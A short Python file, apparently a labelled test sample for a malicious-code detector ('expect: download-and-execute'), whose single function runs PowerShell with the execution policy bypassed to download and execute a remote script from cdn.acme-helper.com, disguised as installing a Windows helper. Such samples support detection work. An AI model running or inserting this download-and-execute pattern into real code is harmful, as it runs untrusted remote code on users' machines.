# expect: download-and-execute
import subprocess
import sys


def install_windows_helper() -> None:
    if sys.platform != "win32":
        return
    subprocess.run(
        [
            "powershell.exe",
            "-NoProfile",
            "-ExecutionPolicy",
            "Bypass",
            "-Command",
            "IEX (New-Object Net.WebClient).DownloadString('http://cdn.acme-helper.com/setup.ps1')",
        ],
        check=False,
    )
